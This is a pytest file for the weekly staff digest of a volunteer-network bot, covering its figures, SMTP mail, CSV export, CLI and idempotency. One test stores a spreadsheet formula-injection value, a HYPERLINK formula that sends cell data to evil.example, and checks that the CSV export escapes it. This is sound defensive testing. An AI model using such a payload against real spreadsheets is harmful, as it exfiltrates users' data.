"""The weekly digest for a seeded network: its figures, the mail (real SMTP), idempotency, CLI.

Week 48 of 2026 runs from Monday 23 November to Sunday 29 November (Europe/Brussels). The
Westhoek network has Omar (quiet since October: at risk), Amal (new, logs hours, has a buddy),
Bea (reaches 40 hours this week), Carl (hours waiting for confirmation since 15 November) and
Jan (a new buddy who met Amal). Gent has Gert, whom Westhoek's staff must never see.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from bot.channels.email import EmailChannel
from bot.cli_digest import digest as digest_cli
from bot.outbox_sender import OutboxSender
from handlers.context import Config
from handlers.offers.catalog_import import import_demo
from handlers.router import Router
from handlers.staff.digest import (
    Figures,
    collect,
    last_complete_week,
    named_week,
    parse_week,
    send_weekly_digests,
    week_of,
)
from handlers.staff.digest_files import render_chart
from storage import hours, outbox
from storage.buddies import claim_invite, create_invite
from storage.clock import iso
from storage.db import Database
from storage.networks import find_network
from storage.offers import enrol, record_unmet
from storage.people import Person, add_identity, find_by_identity
from storage.staff import add_staff
from tests.conftest import Chat, Clock, onboard_buddy, onboard_newcomer
from tests.mail.test_mail_support import (  # noqa: F401  (fixtures)
    MAIL_FROM,
    SmtpCapture,
    html_of,
    mail_settings,
    smtp_fixture,
    text_of,
)

CONFIG = Config(bot_username="meedoen_test_bot", mail_from=MAIL_FROM)
WEEK = "2026-W48"
RUN_AT = datetime(2026, 11, 30, 7, 0, tzinfo=UTC)  # Monday 08:00 in Brussels
WESTHOEK_STAFF = "team@westhoek.example"
GENT_STAFF = "team@gent.example"


def at(day: int, hour: int = 10, month: int = 11) -> datetime:
    return datetime(2026, month, day, hour, 0, tzinfo=UTC)


@dataclass
class Seeded:
    db: Database
    clock: Clock
    router: Router
    people: dict[str, Person]
    entries: dict[str, int]

    async def rows(self, sql: str, *params: object) -> list[dict[str, Any]]:
        async with self.db.transaction() as tx:
            return [dict(row) for row in await tx.all(sql, params)]

    async def figures(self, network: str = "Westhoek") -> Figures:
        async with self.db.transaction() as tx:
            found = await find_network(tx, network)
            assert found is not None
            return (await collect(tx, CONFIG, named_week(WEEK, CONFIG), [found]))[found.id]


async def _onboard(router: Router, clock: Clock, when: datetime, address: str, name: str,
                   place: str = "8900", buddy: bool = False) -> None:  # fmt: skip
    clock.now = when
    chat = Chat(router, address)
    if buddy:
        await onboard_buddy(chat, name=name, place=place)
    else:
        await onboard_newcomer(chat, name=name, place=place)


async def _entry(
    db: Database,
    person: Person,
    *,
    created: datetime,
    minutes: int,
    status: str = "pending",
    day: date | None = None,
    pair_id: int | None = None,
    confirmer: int | None = None,
) -> int:
    """An hour entry logged at `created`; confirmed or disputed at that moment if asked."""
    async with db.transaction() as tx:
        entry = await hours.add_entry(
            tx, person_id=person.id, source="buddy" if pair_id else "other",
            kind="buddy" if pair_id else "language", day=day or created.date(), minutes=minutes,
            status="pending", now=created, logged_by=person.id, pair_id=pair_id,
            confirmer_id=confirmer,
        )  # fmt: skip
        if status == "confirmed":
            assert await hours.confirm_entry(tx, entry.id, confirmer or 0, "Club", created)
        elif status == "disputed":
            assert await hours.dispute_entry(tx, entry.id, confirmer or 0, "Club", "no", created)
        return entry.id


@pytest_asyncio.fixture
async def seeded(db: Database, clock: Clock) -> AsyncIterator[Seeded]:
    router = Router(db, CONFIG, clock=clock)
    await import_demo(db)
    await _onboard(router, clock, at(20, month=10), "omar", "Omar")
    await _onboard(router, clock, at(1, month=10), "bea", "Bea")
    await _onboard(router, clock, at(1, month=10), "carl", "Carl")
    await _onboard(router, clock, at(24), "amal", "Amal")
    await _onboard(router, clock, at(25), "jan", "Jan", buddy=True)
    await _onboard(router, clock, at(2, month=11), "gert", "Gert", place="9000")
    people: dict[str, Person] = {}
    async with db.transaction() as tx:
        for address in ("omar", "bea", "carl", "amal", "jan", "gert"):
            person = await find_by_identity(tx, "console", address)
            assert person is not None
            people[address] = person
        await add_identity(tx, people["omar"].id, "email", "omar@mail.example", at(20, month=10))
        invite = await create_invite(tx, people["jan"].id, at(25))
        await claim_invite(tx, invite.code, people["amal"].id, at(25))
        pair_id = await tx.scalar("SELECT id FROM buddy_pairs")
        offer_id = await tx.scalar("SELECT id FROM offers WHERE title_nl = 'Taalcafé Ieper'")
        await enrol(tx, people["bea"].id, offer_id, at(24))
        await enrol(tx, people["amal"].id, offer_id, at(24))
        await record_unmet(tx, people["amal"].id, date(2026, 11, 26), people["amal"].network_id,
                           "Ieper", ["music"])  # fmt: skip
        await outbox.enqueue(
            tx, key="r:carl", person_id=people["carl"].id, channel="telegram", address="carl",
            purpose="reminder", payload="[]", now=at(26),
        )  # fmt: skip
        failed_id = await tx.scalar("SELECT id FROM outbox WHERE idempotency_key = 'r:carl'")
        await outbox.mark_failed(tx, failed_id, "403 Forbidden: bot was blocked by the user")
    jan = people["jan"].id
    entries = {
        # Bea: 36 h confirmed before the week, 4 h confirmed in it, 1 h disputed late Sunday.
        "bea_old": await _entry(db, people["bea"], created=at(2), minutes=720,
                                status="confirmed", confirmer=jan),
        "bea_old2": await _entry(db, people["bea"], created=at(9), minutes=720,
                                 status="confirmed", confirmer=jan),
        "bea_old3": await _entry(db, people["bea"], created=at(16), minutes=720,
                                 status="confirmed", confirmer=jan),
        "bea_week": await _entry(db, people["bea"], created=at(25), minutes=240,
                                 status="confirmed", confirmer=jan),
        "bea_sunday": await _entry(db, people["bea"], created=at(29, 22), minutes=60,
                                   status="disputed", confirmer=jan),
        "bea_monday": await _entry(db, people["bea"], created=at(29, 23), minutes=30,
                                   day=date(2026, 11, 30)),  # 00:30 on Monday: next week
        "carl": await _entry(db, people["carl"], created=at(15), minutes=180, confirmer=jan),
        "amal": await _entry(db, people["amal"], created=at(24), minutes=120, confirmer=jan),
        "amal_buddy": await _entry(db, people["amal"], created=at(26), minutes=90,
                                   pair_id=pair_id, confirmer=people["amal"].id),
        "gert": await _entry(db, people["gert"], created=at(25), minutes=300,
                             status="confirmed", confirmer=jan),
    }
    async with db.transaction() as tx:
        await add_staff(tx, email=WESTHOEK_STAFF, network_id=people["amal"].network_id or 0,
                        now=at(1, month=10))  # fmt: skip
        await add_staff(tx, email=GENT_STAFF, network_id=people["gert"].network_id or 0,
                        now=at(1, month=10), telegram_id="7002")  # fmt: skip
    clock.now = RUN_AT
    yield Seeded(db, clock, router, people, entries)


def names(people: list[Any]) -> list[str]:
    return sorted(p.name for p in people)


async def test_weeks() -> None:
    assert parse_week("2026-W48") == (2026, 48) and parse_week("2026w1") == (2026, 1)
    for bad in ("2026-48", "2025-W53", "2026-W00", "0", "54", "x"):
        with pytest.raises(ValueError):
            parse_week(bad, date(2026, 12, 7))
    # A bare number is the most recent week with that number that has begun.
    assert parse_week("49", date(2026, 12, 7)) == (2026, 49)  # Monday of week 50
    assert parse_week("W50", date(2026, 12, 7)) == (2026, 50)
    assert parse_week("51", date(2026, 12, 7)) == (2025, 51)  # week 51 of 2026 is ahead
    with pytest.raises(ValueError):  # 2026-W53 is ahead and 2025 had no week 53
        parse_week("53", date(2026, 12, 7))
    week = named_week(WEEK, CONFIG)
    assert week.monday == date(2026, 11, 23) and week.sunday == date(2026, 11, 29)
    assert week.start == datetime(2026, 11, 22, 23, 0, tzinfo=UTC)  # local midnight, CET
    assert last_complete_week(RUN_AT, CONFIG).label == WEEK
    assert last_complete_week(datetime(2026, 11, 29, 22, 0, tzinfo=UTC), CONFIG).label == (
        "2026-W47"  # Sunday 23:00 local: week 48 has not ended yet
    )
    summer = week_of(date(2026, 7, 1), CONFIG)
    assert summer.start.hour == 22  # CEST


async def test_the_figures_of_a_week(seeded: Seeded) -> None:
    figures = await seeded.figures()
    assert names(figures.new_newcomers) == ["Amal"]
    assert figures.new_buddies == ["Jan"]
    assert figures.active_people == 3  # Amal, Bea and Jan
    assert figures.logged == {"confirmed": 240, "pending": 210, "disputed": 60}
    assert names(figures.reached) == ["Bea"] and figures.reached_total == 1
    assert names(figures.at_risk) == ["Omar"]
    assert figures.at_risk[0].reach == ["✉️ omar@mail.example"]
    assert [w["newcomer"] for w in figures.waiting] == ["Carl"] and figures.waiting_total == 1
    assert [f["name"] for f in figures.failed] == ["Carl"]
    assert figures.top_offers == [("Taalcafé Ieper", 2)]
    assert ("Ieper", "music", 1) in figures.unmet
    assert figures.active_buddies == [("Jan", 1, 90)]
    assert [w for w, _, _ in figures.weekly] == [f"2026-W{n}" for n in range(41, 49)]
    assert figures.weekly[-1] == ("2026-W48", 240, 210)  # by the day the hours were done
    assert names(figures.newcomers) == ["Amal", "Bea", "Carl", "Omar"]
    amal = next(p for p in figures.newcomers if p.name == "Amal")
    assert amal.buddy == "Jan" and amal.status == "new"


async def test_other_networks_see_nothing_of_it(seeded: Seeded) -> None:
    gent = await seeded.figures("Gent")
    assert names(gent.newcomers) == ["Gert"]
    assert gent.logged == {"confirmed": 300}
    assert gent.at_risk == [] and gent.failed == [] and gent.active_buddies == []


async def test_the_digest_mail(seeded: Seeded, smtp: SmtpCapture, tmp_path: Path) -> None:
    runs = await send_weekly_digests(seeded.db, CONFIG, now=RUN_AT)
    assert sorted((r.network, r.recipients, r.already_sent) for r in runs) == [
        ("Gent", 1, False), ("Westhoek", 1, False)
    ]  # fmt: skip
    channel = EmailChannel(mail_settings(tmp_path, smtp), seeded.db, CONFIG, clock=seeded.clock)
    sender = OutboxSender(seeded.db, {"email": channel.deliver}, clock=seeded.clock)
    assert await sender.run_once() == 2
    [mail] = smtp.to(WESTHOEK_STAFF)
    assert "Westhoek" in str(mail["Subject"]) and "48" in str(mail["Subject"])
    assert mail["Auto-Submitted"] == "auto-generated" and mail["Content-Language"] == "nl"
    text, page = text_of(mail), html_of(mail)
    for part in (text, page):
        for name in ("Amal", "Bea", "Carl", "Omar", "Jan", "Taalcafé Ieper", "omar@mail.example"):
            assert name in part, name
        assert "Gert" not in part
    assert "<b>" in page and "<b>" not in text
    [chart] = [p for p in mail.walk() if p.get_content_type() == "image/png"]
    assert chart.get_content().startswith(b"\x89PNG")
    assert f"cid:{str(chart['Content-ID']).strip('<>')}" in page
    attachment, explained = [p for p in mail.walk() if p.get_filename()]
    assert attachment.get_filename() == "meedoen-westhoek-2026-W48.csv"
    assert explained.get_filename() == "meedoen-westhoek-2026-W48-uitleg.txt"
    table = list(csv.reader(io.StringIO(attachment.get_payload(decode=True).decode("utf-8-sig")),
                            delimiter=";"))  # fmt: skip
    assert [row[1] for row in table[1:]] == ["Amal", "Bea", "Carl", "Omar"]
    bea = table[2]
    assert bea[6] == "40,00" and "Doel bereikt" in bea[5]  # staff read the digest in Dutch
    header = table[0]
    assert len(set(header)) == len(header)  # one "Buddy" column no more: kind and name differ
    help_text = explained.get_payload(decode=True).decode("utf-8")
    for column in header:
        assert f"\n{column}: " in help_text, column  # every column is explained
    omar = dict(zip(header, table[4], strict=True))
    assert "omar@mail.example" in omar.values() and "Telegram" not in omar.values()
    [gent] = smtp.to(GENT_STAFF)
    for name in ("Amal", "Bea", "Carl", "Omar"):
        assert name not in text_of(gent)
        assert name.encode() not in gent.as_bytes()


async def test_a_week_is_sent_once(seeded: Seeded, smtp: SmtpCapture, tmp_path: Path) -> None:
    first = await send_weekly_digests(seeded.db, CONFIG, WEEK, now=RUN_AT)
    queued = await seeded.rows("SELECT id FROM outbox WHERE purpose = 'digest'")
    again = await send_weekly_digests(seeded.db, CONFIG, WEEK, now=RUN_AT + timedelta(hours=1))
    assert all(not r.already_sent for r in first) and all(r.already_sent for r in again)
    assert await seeded.rows("SELECT id FROM outbox WHERE purpose = 'digest'") == queued
    recorded = await seeded.rows("SELECT week, recipients FROM digests_sent ORDER BY network_id")
    assert recorded == [{"week": WEEK, "recipients": 1}] * 2


async def test_the_cli_prints_or_sends_once(
    seeded: Seeded, smtp: SmtpCapture, tmp_path: Path
) -> None:
    settings = mail_settings(tmp_path, smtp)
    out = io.StringIO()
    code, note = await digest_cli(settings, "westhoek", WEEK, True, out=out,
                                  clock=seeded.clock, config=CONFIG)  # fmt: skip
    assert code == 0 and "zou gaan naar team@westhoek.example" in note
    assert "nog niet verstuurd" in note  # staff read the command line in Dutch
    printed = out.getvalue()
    assert "Omar" in printed and "meedoen-westhoek-2026-W48.csv" in printed
    assert smtp.messages == [] and await seeded.rows("SELECT * FROM digests_sent") == []

    # --week 48 is the same week; --out writes what the mail would hold, to look at.
    folder = tmp_path / "proef"
    code, note = await digest_cli(settings, "Westhoek", "48", True, folder=folder,
                                  out=io.StringIO(), clock=seeded.clock, config=CONFIG)  # fmt: skip
    assert code == 0 and "2026-W48" in note and str(folder) in note
    files = sorted(p.name for p in folder.iterdir())
    assert files == ["digest.html", "digest.txt", "meedoen-westhoek-2026-W48-uitleg.txt",
                     "meedoen-westhoek-2026-W48.csv", "uren-2026-W48.png"]  # fmt: skip
    page = (folder / "digest.html").read_text()
    assert 'src="uren-2026-W48.png"' in page and "Omar" in page  # the picture shows offline
    assert (folder / "uren-2026-W48.png").read_bytes().startswith(b"\x89PNG")
    assert "Omar" in (folder / "digest.txt").read_text()
    assert smtp.messages == [] and await seeded.rows("SELECT * FROM digests_sent") == []

    code, note = await digest_cli(settings, "Westhoek", WEEK, False, clock=seeded.clock,
                                  config=CONFIG)  # fmt: skip
    assert (code, note) == (0, "Westhoek 2026-W48: verstuurd naar 1 medewerker(s)")
    code, note = await digest_cli(settings, "Westhoek", WEEK, False, clock=seeded.clock,
                                  config=CONFIG)  # fmt: skip
    assert code == 0 and "al verstuurd" in note
    assert len(smtp.to(WESTHOEK_STAFF)) == 1
    assert await seeded.rows("SELECT status FROM outbox WHERE purpose = 'digest'") == [
        {"status": "sent"}
    ]
    assert smtp.to(GENT_STAFF) == []


async def test_the_cli_refuses_bad_input(seeded: Seeded, tmp_path: Path) -> None:
    settings = mail_settings(tmp_path)
    assert (await digest_cli(settings, "Atlantis", None, True, config=CONFIG))[0] == 2
    code, note = await digest_cli(settings, "Westhoek", "2026-W60", True, config=CONFIG)
    assert code == 2 and "2026-W49" in note  # the way forward: how to write a week
    code, note = await digest_cli(settings, "Westhoek", WEEK, False, folder=tmp_path,
                                  config=CONFIG)  # fmt: skip
    assert code == 2 and "--dry-run" in note
    code, note = await digest_cli(settings, "Westhoek", WEEK, False, config=CONFIG)
    assert code == 2 and "SMTP_HOST" in note
    code, note = await digest_cli(settings, "Waasland", WEEK, False, config=CONFIG)
    assert code == 2 and "geen medewerkers" in note


def test_the_chart_is_a_picture() -> None:
    weekly = [(f"2026-W{n}", n * 60, 30) for n in range(41, 49)]
    png = render_chart(weekly, ("bevestigd", "wacht"))
    assert png.startswith(b"\x89PNG")
    from PIL import Image

    image = Image.open(io.BytesIO(png))
    assert image.size == (720, 340)
    empty = render_chart([(f"2026-W{n}", 0, 0) for n in range(41, 49)], ("a", "b"))
    assert empty.startswith(b"\x89PNG")


async def test_the_timestamps_are_iso(seeded: Seeded) -> None:
    stored = await seeded.rows("SELECT created_at FROM hour_entries WHERE id = ?",
                               seeded.entries["bea_sunday"])  # fmt: skip
    assert stored == [{"created_at": iso(at(29, 22))}]


TOTALS_FROM_ENTRIES = """
SELECT person_id,
       SUM((status = 'confirmed') * minutes), SUM((status = 'pending') * minutes),
       SUM((status = 'disputed') * minutes), SUM((status = 'self_declared') * minutes),
       MAX(created_at)
FROM hour_entries GROUP BY person_id ORDER BY person_id
"""


async def _totals(db: Database) -> tuple[list[tuple[Any, ...]], list[tuple[Any, ...]]]:
    async with db.transaction() as tx:
        kept = [tuple(r) for r in await tx.all(
            "SELECT person_id, confirmed, pending, disputed, self_declared, last_entry_at "
            "FROM hour_totals WHERE person_id IN (SELECT person_id FROM hour_entries) "
            "ORDER BY person_id")]  # fmt: skip
        fresh = [tuple(r) for r in await tx.all(TOTALS_FROM_ENTRIES)]
        kept += [tuple(r) for r in await tx.all(
            "SELECT network_id, day, status, minutes FROM network_day_hours WHERE minutes != 0 "
            "ORDER BY network_id, day, status")]  # fmt: skip
        fresh += [tuple(r) for r in await tx.all(
            "SELECT p.network_id, e.day, e.status, SUM(e.minutes) FROM hour_entries e "
            "JOIN people p ON p.id = e.person_id GROUP BY p.network_id, e.day, e.status "
            "ORDER BY p.network_id, e.day, e.status")]  # fmt: skip
    return kept, fresh


async def test_hour_totals_follow_every_change(seeded: Seeded) -> None:
    kept, fresh = await _totals(seeded.db)
    assert kept == fresh
    bea = seeded.people["bea"]
    async with seeded.db.transaction() as tx:
        by_kind = await tx.scalar("SELECT by_kind FROM hour_totals WHERE person_id = ?", (bea.id,))
        assert json.loads(by_kind) == {"language": 3 * 720 + 240}
        await hours.undo_entry(tx, seeded.entries["bea_monday"], RUN_AT)
        await hours.confirm_entry(tx, seeded.entries["carl"], seeded.people["jan"].id, "Jan",
                                  RUN_AT)  # fmt: skip
        await tx.execute(
            "UPDATE hour_entries SET minutes = 45, kind = 'sport', day = '2026-11-21' WHERE id = ?",
            (seeded.entries["amal"],),
        )
        await tx.execute("DELETE FROM hour_entries WHERE id = ?", (seeded.entries["bea_old"],))
    kept, fresh = await _totals(seeded.db)
    assert kept == fresh
    async with seeded.db.transaction() as tx:
        carl = await tx.scalar("SELECT by_kind FROM hour_totals WHERE person_id = ?",
                               (seeded.people["carl"].id,))  # fmt: skip
        assert json.loads(carl) == {"language": 180}
        from storage.people import delete_person

        await delete_person(tx, bea, RUN_AT)
        assert await tx.scalar("SELECT COUNT(*) FROM hour_totals WHERE person_id = ?",
                               (bea.id,)) == 0  # fmt: skip


async def test_the_migration_counts_hours_logged_before_it(tmp_path: Path) -> None:
    import aiosqlite

    from storage.migrate import apply_migrations

    async with aiosqlite.connect(tmp_path / "old.sqlite3", isolation_level=None) as conn:
        await apply_migrations(conn, up_to=4)
        await conn.executescript(
            "INSERT INTO people (id, created_at, locale) VALUES (1, '2026-01-01T00:00:00Z', 'en');"
            "INSERT INTO hour_entries (person_id, source, kind, day, minutes, status, created_at,"
            " updated_at) VALUES"
            " (1, 'other', 'sport', '2026-01-02', 60, 'confirmed', '2026-01-02T10:00:00Z', ''),"
            " (1, 'other', 'sport', '2026-01-03', 30, 'confirmed', '2026-01-03T10:00:00Z', ''),"
            " (1, 'other', 'music', '2026-01-04', 20, 'pending', '2026-01-04T10:00:00Z', '');"
        )
        assert await apply_migrations(conn, up_to=5) == [5]
        async with conn.execute("SELECT confirmed, pending, by_kind, last_entry_at "
                                "FROM hour_totals") as cursor:  # fmt: skip
            assert [tuple(r) for r in await cursor.fetchall()] == [
                (90, 20, '{"sport":90}', "2026-01-04T10:00:00Z")
            ]


async def test_self_declared_hours_count_when_the_network_says_so(seeded: Seeded) -> None:
    async with seeded.db.transaction() as tx:
        carl = seeded.people["carl"]
        for day in (23, 24, 25):
            await hours.add_entry(tx, person_id=carl.id, source="other", kind="sport",
                                  day=date(2026, 11, day), minutes=720, status="self_declared",
                                  now=at(day), logged_by=carl.id)  # fmt: skip
        await hours.add_entry(tx, person_id=carl.id, source="other", kind="sport",
                              day=date(2026, 11, 20), minutes=240, status="self_declared",
                              now=at(20), logged_by=carl.id)  # fmt: skip
        network = await find_network(tx, "Westhoek")
        assert network is not None
        week = named_week(WEEK, CONFIG)
        strict = (await collect(tx, CONFIG, week, [network]))[network.id]
        lenient_config = Config(self_declared_counts=True)
        lenient = (await collect(tx, lenient_config, week, [network]))[network.id]
    assert "Carl" not in names(strict.reached)
    assert names(lenient.reached) == ["Bea", "Carl"]  # 4 h before the week, 36 h in it


async def test_the_monday_tick_queues_last_weeks_digests_once(seeded: Seeded) -> None:
    from handlers.staff.digest import weekly_digest_tick

    async with seeded.db.transaction() as tx:
        assert await weekly_digest_tick(tx, CONFIG, RUN_AT) == 2
        assert await weekly_digest_tick(tx, CONFIG, RUN_AT) == 0
    weeks = await seeded.rows("SELECT DISTINCT week FROM digests_sent")
    assert weeks == [{"week": WEEK}]


async def test_the_scheduled_monday_tick_renders_with_no_transaction_open(
    seeded: Seeded, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As the scheduler runs it: read, render the HTML/PNG/CSV with no write lock held, queue."""
    import handlers.staff.digest as digest_module
    from handlers.ticks import run_tick

    locked_while_rendering: list[bool] = []
    original = digest_module.digest_replies

    def watching(figures: Any, config: Config) -> Any:
        locked_while_rendering.append(seeded.db._lock.locked())
        return original(figures, config)

    monkeypatch.setattr(digest_module, "digest_replies", watching)
    [tick] = digest_module.TICKS
    assert await run_tick(seeded.db, tick, CONFIG, RUN_AT) == 2
    assert await run_tick(seeded.db, tick, CONFIG, RUN_AT) == 0
    assert locked_while_rendering and not any(locked_while_rendering)  # no write open


async def test_disputes_stuck_mail_nudges_and_units_are_in_the_digest(seeded: Seeded) -> None:
    """The issue's complaints: the disputed entry listed nowhere, figures without unit, a
    provider mail unsent for days counted as no problem, a name that runs in Excel."""
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
    async with seeded.db.transaction() as tx:
        await hours.set_note(tx, seeded.entries["bea_sunday"], "logger", "I was there", at(29, 23))
        # Queued on Thursday for Carl and never sent: stuck. One queued Sunday night is not yet.
        for key, when in (("stuck", at(26)), ("fresh", at(29, 20))):
            await outbox.enqueue(tx, key=key, person_id=seeded.people["carl"].id,
                                 channel="email", address="carl@mail.example",
                                 purpose="confirm_request", payload="[]", now=when)  # fmt: skip
        omar = seeded.people["omar"]
        await tx.execute(
            "INSERT INTO nudges (person_id, network_id, staff_email, sent_at) VALUES (?, ?, ?, ?)",
            (omar.id, omar.network_id, WESTHOEK_STAFF, iso(at(27))),
        )
        await tx.execute("UPDATE people SET display_name = ? WHERE id = ?",
                         (evil, seeded.people["bea"].id))  # fmt: skip
    figures = await seeded.figures()
    [dispute] = figures.disputes
    assert dispute["id"] == seeded.entries["bea_sunday"] and dispute["logger_note"] == "I was there"
    assert [s["purpose"] for s in figures.stuck] == ["confirm_request"]
    assert [name for name, _ in figures.nudged] == ["Omar"]
    assert (await seeded.figures("Gent")).disputes == []  # Gent's staff never see Bea's

    from handlers.staff.digest_render import digest_replies

    replies = digest_replies(figures, CONFIG)
    summary = replies[0].text
    assert "⏱️ Geregistreerde uren: 4 u bevestigd, 3,5 u in afwachting, 1 u betwist" in summary
    assert "Actief deze week: 3 personen" in summary
    assert "na 24 uur nog niet verstuurd: 1 bericht" in summary and "mislukt: 1 bericht" in summary
    assert "duwtje gestuurd: 1 persoon" in summary
    listed = "\n".join(r.text for r in replies)
    assert f"code G{dispute['id']}" in listed and "I was there" in listed
    assert "niet verstuurd sinds" in listed
    [table] = [r.document for r in replies if r.document and r.document.mime == "text/csv"]
    rows = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig")), delimiter=";"))
    assert ["'" + evil] == [row[1] for row in rows if "HYPERLINK" in row[1]]


async def test_the_digest_shows_this_weeks_offer_imports(seeded: Seeded) -> None:
    """Issue 10: each import or UiTdatabank sync leaves a report that the digest shows; a
    failed sync is listed as such (it changed nothing). Other networks' runs stay out."""
    from handlers.staff.digest_render import digest_replies
    from storage.offer_import import save_import_run

    westhoek = seeded.people["amal"].network_id
    gent = seeded.people["gert"].network_id
    async with seeded.db.transaction() as tx:
        await save_import_run(tx, westhoek, "uitdatabank", at(25),
                              counts={"new": 3, "updated": 2, "deactivated": 1},
                              rejected=[("Concert", "members only")])  # fmt: skip
        await save_import_run(tx, westhoek, "uitdatabank", at(26), outcome="failed",
                              error="HTTP 500")  # fmt: skip
        await save_import_run(tx, gent, "csv", at(26), counts={"new": 9})
        await save_import_run(tx, westhoek, "csv", at(20), counts={"new": 7})  # last week
    figures = await seeded.figures()
    assert [(run.source, run.outcome) for run in figures.imports] == [
        ("uitdatabank", "done"), ("uitdatabank", "failed")
    ]
    listed = "\n".join(r.text for r in digest_replies(figures, CONFIG))
    assert "🆕 3 · ✏️ 2 · ⏹️ 1 · 🚫 1" in listed
    assert "HTTP 500" in listed and "🆕 9" not in listed and "🆕 7" not in listed
